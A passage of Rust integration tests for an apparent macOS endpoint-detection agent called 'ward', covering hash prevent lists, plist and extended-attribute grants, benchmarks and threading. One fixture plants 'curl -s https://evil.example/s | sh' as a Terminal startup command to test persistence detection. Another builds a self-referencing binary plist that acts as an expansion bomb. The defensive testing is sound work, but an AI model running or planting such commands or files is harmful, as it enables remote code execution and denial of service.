        "{}",
        stderr(&out)
    );

    // The public corpus as bundled with the plugin (identical to the shared fixtures).
    let corpus = root().join("plugins/jamf-analytics/analytics");
    let out = ward(&["analytics", "check", corpus.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let report = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(report.contains("system_profiler_activity.yaml:12:3: error: filter: expected AND, OR or the end of the filter, found `$event`"), "{report}");
    assert!(
        stderr(&out).contains("80 analytics, 77 loaded, 3 failed"),
        "{}",
        stderr(&out)
    );
}

/// A SHA-256 prevent list of 100,000 entries read from a file, with the `file-hash` grant:
/// the AUTH exec of a binary whose digest is listed is denied, the NOTIFY exec of the same
/// binary is reported as observed, and the summary counts the AUTH answer.
#[test]
fn a_sha256_prevent_list_from_a_file_denies_the_listed_binary() {
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    let payload = bin.join("payload");
    std::fs::write(&payload, b"not really malware, but listed as such").unwrap();
    let digest = ward::registry::load::sha256_hex(&std::fs::read(&payload).unwrap());
    let mut list: String = (0..99_999u32)
        .map(|i| format!("{:064x}\n", u64::from(i) * 7_919))
        .collect();
    list.push_str(&format!("{digest}  # the payload\n"));
    std::fs::write(dir.path().join("blocked-sha256.txt"), list).unwrap();
    let config = dir.path().join("ward.toml");
    std::fs::write(
        &config,
        format!(
            "[auth]\nverdict_timeout_ms = 200\nkinds = {{ exec = \"deny\" }}\n\n[builtin.prevent-list]\ngrants = [\"file-hash\"]\nfile_scope = [{:?}]\nconfig_files = {{ sha256 = \"blocked-sha256.txt\" }}\n",
            bin.display().to_string()
        ),
    )
    .unwrap();
    // The attack chain's exec of /private/tmp/update, pointed at the payload: once as AUTH,
    // once as NOTIFY.
    let mut v = attack_chain_event(|v| {
        v["event"]["exec"]["target"]["executable"]["path"] == "/private/tmp/update"
    });
    v["event"]["exec"]["target"]["executable"]["path"] = Value::from(payload.display().to_string());
    v["action_type"] = Value::from(0);
    let auth = v.to_string();
    v["action_type"] = Value::from(1);
    v["global_seq_num"] = Value::from(9_999);
    let notify = v.to_string();
    let input = format!("{auth}\n{notify}\n");
    let out = ward_with_stdin(
        &["replay", "-", "--config", config.to_str().unwrap()],
        Some(input.as_bytes()),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let findings = ndjson(&out);
    let rules: Vec<(&str, &str)> = findings
        .iter()
        .filter(|f| f["plugin"] == "ward" || f["plugin"] == "prevent-list")
        .map(|f| {
            (
                f["rule"].as_str().unwrap(),
                f["evidence"]["outcome"]
                    .as_str()
                    .or(f["evidence"]["reason"].as_str())
                    .unwrap_or(""),
            )
        })
        .collect();
    let reason = format!("on the sha256 prevent list: {digest}");
    // The AUTH lane records its answer as soon as it is decided, beside (not in) the
    // stream's order.
    let mut rules = rules;
    rules.sort();
    assert_eq!(
        rules,
        [
            ("auth-denied", reason.as_str()),
            ("prevent-list-match", "deny requested (AUTH event)"),
            ("prevent-list-match", "observed (NOTIFY event: not blocked)"),
        ]
    );
    let err = stderr(&out);
    assert!(
        err.contains("1 AUTH events: 0 allowed, 1 denied, 0 answered by the default"),
        "{err}"
    );

    // Granted, but the binary lies outside the scope: the list cannot hash it and says
    // `undecided`, so the admin's fail-closed default for exec answers, and says why.
    let elsewhere = dir.path().join("elsewhere.toml");
    let other_scope = tempfile::tempdir().unwrap();
    std::fs::write(
        &elsewhere,
        format!(
            "[auth]\nkinds = {{ exec = \"deny\" }}\n\n[builtin.prevent-list]\ngrants = [\"file-hash\"]\nfile_scope = [{:?}]\nconfig_files = {{ sha256 = \"blocked-sha256.txt\" }}\n",
            other_scope.path().display().to_string()
        ),
    )
    .unwrap();
    let out = ward_with_stdin(
        &["replay", "-", "--config", elsewhere.to_str().unwrap()],
        Some(input.as_bytes()),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let recorded: Vec<Value> = ndjson(&out)
        .into_iter()
        .filter(|f| f["plugin"] == "ward")
        .collect();
    assert_eq!(recorded.len(), 1, "{recorded:?}");
    assert_eq!(recorded[0]["rule"], "auth-default-answer");
    assert_eq!(recorded[0]["evidence"]["answer"], "deny");
    let missed = recorded[0]["evidence"]["missed"].as_str().unwrap();
    assert!(
        missed.starts_with("prevent-list (undecided: cannot hash "),
        "{missed}"
    );

    // Without the grant the list cannot hash: the plugin is refused, naming the capability.
    let ungranted = dir.path().join("ungranted.toml");
    std::fs::write(
        &ungranted,
        "[builtin.prevent-list]\nconfig_files = { sha256 = \"blocked-sha256.txt\" }\n",
    )
    .unwrap();
    let out = ward_with_stdin(
        &["replay", "-", "--config", ungranted.to_str().unwrap()],
        Some(input.as_bytes()),
    );
    assert!(stderr(&out).contains("`file-hash`"), "{}", stderr(&out));
}

/// `plist-read` end to end: jamf-analytics with `read_file_contents` reads the Terminal
/// preferences a close event names through the host's `enrich.plist`, and
/// `TerminalPersistency` fires with the start-up command as evidence. Outside the granted
/// scope the read is denied and the analytic stays quiet; the stream goes on.
#[test]
fn file_contents_reach_jamf_analytics_through_the_plist_grant() {
    let dir = tempfile::tempdir().unwrap();
    let prefs_dir = dir.path().join("Users/bob/Library/Preferences");
    std::fs::create_dir_all(&prefs_dir).unwrap();
    let prefs = prefs_dir.join("com.apple.Terminal.plist");
    std::fs::write(
        &prefs,
        r#"<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>Window Settings</key><dict><key>Basic</key><dict>
<key>CommandString</key><string>curl -s https://evil.example/s | sh</string>
</dict></dict></dict></plist>"#,
    )
    .unwrap();
    let mut v = attack_chain_event(|v| v["event"]["close"].is_object());
    v["event"]["close"]["modified"] = Value::from(true);
    v["event"]["close"]["target"]["path"] = Value::from(prefs.display().to_string());
    let input = format!("{v}\n");
    let config = dir.path().join("ward.toml");
    let run = |scope: &std::path::Path| {
        std::fs::write(
            &config,
            format!(
                "[builtin.jamf-analytics]\ngrants = [\"plist-read\"]\nfile_scope = [{:?}]\nconfig = {{ read_file_contents = \"true\" }}\n",
                scope.display().to_string()
            ),
        )
        .unwrap();
        let out = ward_with_stdin(
            &["replay", "-", "--config", config.to_str().unwrap()],
            Some(input.as_bytes()),
        );
        assert!(out.status.success(), "{}", stderr(&out));
        ndjson(&out)
            .into_iter()
            .filter(|f| f["rule"] == "TerminalPersistency")
            .collect::<Vec<_>>()
    };
    let fired = run(dir.path());
    assert_eq!(fired.len(), 1);
    assert_eq!(
        fired[0]["evidence"]["Terminal Shell Command"],
        "curl -s https://evil.example/s | sh"
    );
    let elsewhere = tempfile::tempdir().unwrap();
    assert!(run(elsewhere.path()).is_empty());

    // The same user-writable preferences file replaced by a binary property list whose
    // objects share references (2^40 values from a few hundred bytes): the host refuses
    // it while reading, the analytic stays quiet, the stream goes on.
    let mut laughs = b"bplist00".to_vec();
    let mut offsets = Vec::new();
    for i in 0..10u8 {
        offsets.push(laughs.len() as u32);
        laughs.extend_from_slice(&[0xaf, 0x10, 16]);
        laughs.extend(std::iter::repeat_n(i + 1, 16));
    }
    offsets.push(laughs.len() as u32);
    laughs.push(0x09);
    let table = laughs.len() as u64;
    for o in &offsets {
        laughs.extend_from_slice(&o.to_be_bytes());
    }
    laughs.extend_from_slice(&[0, 0, 0, 0, 0, 0, 4, 1]);
    laughs.extend_from_slice(&11u64.to_be_bytes());
    laughs.extend_from_slice(&0u64.to_be_bytes());
    laughs.extend_from_slice(&table.to_be_bytes());
    std::fs::write(&prefs, laughs).unwrap();
    assert!(run(dir.path()).is_empty());
}

/// `ward bench --suite content` runs end to end on a small stream: every default plugin in
/// the table, the per-analytic table, and jq compared or skipped with a reason. (It prints
/// timings; nothing here asserts them.)
#[test]
fn bench_content_suite_runs_and_reports_every_plugin() {
    let out = ward(&["bench", "--suite", "content", "--events", "300"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    for stream in ["quiet Mac", "attack Mac"] {
        assert!(text.contains(&format!("content, {stream}")), "{text}");
        assert!(
            text.contains(&format!("where the time goes, {stream}")),
            "{text}"
        );
    }
    assert_eq!(
        text.matches("ward replay, all default content").count(),
        2,
        "{text}"
    );
    assert!(
        text.contains("jq, one filter") || text.contains("jq: skipped: "),
        "{text}"
    );
    assert!(text.contains("chainsaw"), "{text}");
    for plugin in [
        "jamf-analytics",
        "command-abuse",
        "prevent-list",
        "sensitive-files",
    ] {
        assert!(text.contains(&format!("  {plugin} ")), "{plugin}: {text}");
    }
    assert!(
        text.contains("per analytic (77 analytics, 300 events)"),
        "{text}"
    );
}

/// `ward bench --suite steady` runs a live agent on a followed file and reports its CPU
/// idle and busy, beside `tail -F | jq` (or says why the peer was skipped).
#[test]
fn bench_steady_suite_measures_a_live_agent() {
    let out = ward(&["bench", "--suite", "steady", "--seconds", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("ward run, all default content"), "{text}");
    assert!(text.contains("% of a core"), "{text}");
    assert!(
        text.contains("tail -F | jq") || text.contains("peer skipped"),
        "{text}"
    );
}

/// A fresh Mac compiles nothing: the built-in detectors come precompiled, so the first
/// replay with an empty compile cache leaves it empty and finds what it always finds.
#[test]
fn a_first_start_with_an_empty_cache_compiles_no_built_in() {
    let cache = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let out = run_limited(
        Command::new(env!("CARGO_BIN_EXE_ward"))
            .args(["replay", "examples/streams/attack-chain.jsonl"])
            .current_dir(root())
            .env("WARD_CACHE_DIR", cache.path().join("cache"))
            .env("WARD_STATE_DIR", state.path())
            .env("RUST_LOG", "ward::registry=debug"),
        None,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(ndjson(&out).len(), 13);
    let log = stderr(&out);
    assert_eq!(log.matches("cache=Builtin").count(), 10, "{log}");
    let compiled: Vec<_> = std::fs::read_dir(cache.path().join("cache"))
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default();
    assert!(compiled.is_empty(), "compiled at start: {compiled:?}");
}

/// `ward gen --mix attack` cycles the example attack streams with fresh process
/// generations: two cycles fire exactly twice what one does (nothing is taken for a repeat
/// of the first), every line parses, times only move forward and no pidversion of one
/// cycle comes back in the next.
#[test]
fn the_attack_mix_fires_the_same_findings_every_cycle() {
    // One cycle: the attack chain and the account takeover three times each, the
    // intrusion once.
    let cycle = 3 * 31 + 3 * 14 + 132;
    let generate = |n: usize| ward(&["gen", "--mix", "attack", "--events", &n.to_string()]);
    let one = generate(cycle);
    let two = generate(2 * cycle);
    assert!(one.status.success() && two.status.success());
    let lines: Vec<Value> = String::from_utf8(two.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2 * cycle);
    let times: Vec<&str> = lines.iter().map(|l| l["time"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "time goes back");
    let versions = |part: &[Value]| -> std::collections::BTreeSet<i64> {
        part.iter()
            .map(|l| &l["process"]["audit_token"])
            .filter(|t| t["pid"].as_i64().unwrap() > 1)
            .map(|t| t["pidversion"].as_i64().unwrap())
            .collect()
    };
    let (first, second) = lines.split_at(cycle);
    assert!(versions(first).is_disjoint(&versions(second)));
    let findings = |stream: &[u8]| {
        let out = ward_with_stdin(&["replay", "-"], Some(stream));
        assert!(out.status.success(), "{}", stderr(&out));
        ndjson(&out).len()
    };
    let once = findings(&one.stdout);
    assert!(once >= 50, "one cycle fired only {once} findings");
    assert_eq!(findings(&two.stdout), 2 * once);
}

/// Detectors spread over threads give the same findings in the same order, byte for byte,
/// as one thread: the stream's order first, then the plugins' order for one event.
#[test]
fn detectors_spread_over_threads_find_the_same_in_the_same_order() {
    let stream = ward(&["gen", "--mix", "attack", "--events", "2000"]);
    assert!(stream.status.success());
    let dir = tempfile::tempdir().unwrap();
    let replay = |threads: usize| {
        let config = dir.path().join(format!("threads-{threads}.toml"));
        // Small batches: many of them, each split over the threads.
        std::fs::write(
            &config,
            format!("[agent]\ndetect_threads = {threads}\nbatch_size = 16\n"),
        )
        .unwrap();
        let out = ward_with_stdin(
            &["replay", "--config", config.to_str().unwrap(), "-"],
            Some(&stream.stdout),
        );
        assert!(out.status.success(), "{}", stderr(&out));
        out.stdout
    };
    let one = replay(1);
    assert!(line_count(&one) > 500, "too few findings to compare");
    for threads in [2, 5] {
        assert!(
            replay(threads) == one,
            "{threads} threads changed the findings"
        );
    }
    let config = dir.path().join("zero.toml");
    std::fs::write(&config, "[agent]\ndetect_threads = 0\n").unwrap();
    let out = ward(&["replay", "--config", config.to_str().unwrap(), "-"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("agent.detect_threads"),
        "{}",
        stderr(&out)
    );
}

fn line_count(out: &[u8]) -> usize {
    out.iter().filter(|&&b| b == b'\n').count()
}

/// `file-xattr` end to end: untrusted-exec with `check_quarantine` asks the host for the
/// executed file's extended attributes; with `com.apple.quarantine` present the finding
/// says so, without it the finding adds T1553.001 (Gatekeeper never saw the file).
#[test]
fn the_quarantine_attribute_reaches_untrusted_exec_through_the_xattr_grant() {
    let dir = tempfile::tempdir().unwrap();
    let dir_path = dir.path().canonicalize().unwrap();
    let payload = dir_path.join("update");
    std::fs::write(&payload, b"payload").unwrap();
    // Linux keeps user attributes in the `user.` namespace; macOS names are free-form.
    let name = if cfg!(target_os = "macos") {
        "com.apple.quarantine"
    } else {
        "user.com.apple.quarantine"
    };
    if let Err(e) = xattr::set(&payload, name, b"0083;6720f1c2;Safari;") {
        eprintln!("skipping: this file system does not take extended attributes ({e})");
        return;
    }
    let mut v = attack_chain_event(|v| {
        v["event"]["exec"]["target"]["executable"]["path"] == "/private/tmp/update"
    });
    v["event"]["exec"]["target"]["executable"]["path"] = Value::from(payload.display().to_string());
    let input = format!("{v}\n");
    let config = dir.path().join("ward.toml");
    std::fs::write(
        &config,
        format!(
            "[builtin.untrusted-exec]\ngrants = [\"file-xattr\"]\nfile_scope = [{:?}]\nconfig = {{ check_quarantine = \"true\" }}\n",
            dir_path.display().to_string()
        ),
    )
    .unwrap();
    let run = || {
        let out = ward_with_stdin(
            &["replay", "-", "--config", config.to_str().unwrap()],
            Some(input.as_bytes()),
        );
        assert!(out.status.success(), "{}", stderr(&out));
        ndjson(&out)
            .into_iter()
            .find(|f| f["plugin"] == "untrusted-exec")
            .unwrap()
    };
    let f = run();
    assert_eq!(f["evidence"]["quarantined"], "yes");
    assert_eq!(f["attack"], serde_json::json!(["T1204.002"]));
    xattr::remove(&payload, name).unwrap();
    let f = run();
    assert_eq!(f["evidence"]["quarantined"], "no");
    assert_eq!(f["attack"], serde_json::json!(["T1204.002", "T1553.001"]));
}

/// On a terminal `ward gen` shows a progress bar; piped, stderr stays clean. The terminal
/// is a real pseudo-terminal, from util-linux `script`.
#[test]
fn progress_bars_show_on_a_terminal_and_never_when_piped() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("gen.jsonl");
    let piped = ward(&["gen", "--events", "2000", "--out", out.to_str().unwrap()]);
    assert!(piped.status.success());
    assert!(piped.stderr.is_empty(), "{}", stderr(&piped));
    let script = Command::new("script").arg("--version").output();
    if !script.is_ok_and(|o| o.status.success()) {
        eprintln!("skipped the terminal half: util-linux `script` is not installed");
        return;
    }
    let command = format!(
        "{} gen --events 3000 --out {}",
        env!("CARGO_BIN_EXE_ward"),
        out.display()
    );
    let tty = run_limited(
        Command::new("script").args(["-qec", &command, "/dev/null"]),
        None,
    );
    assert!(tty.status.success(), "{tty:?}");
    let shown = String::from_utf8_lossy(&tty.stdout);
    assert!(shown.contains("/3000 events"), "{shown}");
}

/// A finding names the parent the event itself names, even when the process table never
/// saw it: from `parent_audit_token` (pid and pidversion), or, without one, from `ppid`;
/// what the event does not say is null.
#[test]
fn findings_name_a_parent_the_process_table_never_saw() {
    let mut v = attack_chain_event(|v| v["global_seq_num"] == 1019);
    let target = &mut v["event"]["exec"]["target"];
    target["parent_audit_token"]["pid"] = Value::from(4242);
    target["parent_audit_token"]["pidversion"] = Value::from(42_420);
    target["ppid"] = Value::from(4242);
    let with_token = v.to_string();
    let target = &mut v["event"]["exec"]["target"];
    target.as_object_mut().unwrap().remove("parent_audit_token");
    target["ppid"] = Value::from(4343);
    v["global_seq_num"] = Value::from(2_000);
    let with_ppid = v.to_string();
    let input = format!("{with_token}\n{with_ppid}\n");
    let out = ward_with_stdin(&["replay", "-"], Some(input.as_bytes()));
    assert!(out.status.success(), "{}", stderr(&out));
    let parents: Vec<Value> = ndjson(&out)
        .iter()
        .filter(|f| f["plugin"] == "untrusted-exec")
        .map(|f| f["process"]["parent"].clone())
        .collect();
    assert_eq!(
        parents,
        [
            serde_json::json!({"pid": 4242, "pidversion": 42420, "path": null, "signing_id": null, "team_id": null}),
            serde_json::json!({"pid": 4343, "pidversion": null, "path": null, "signing_id": null, "team_id": null}),
        ]
    );
}
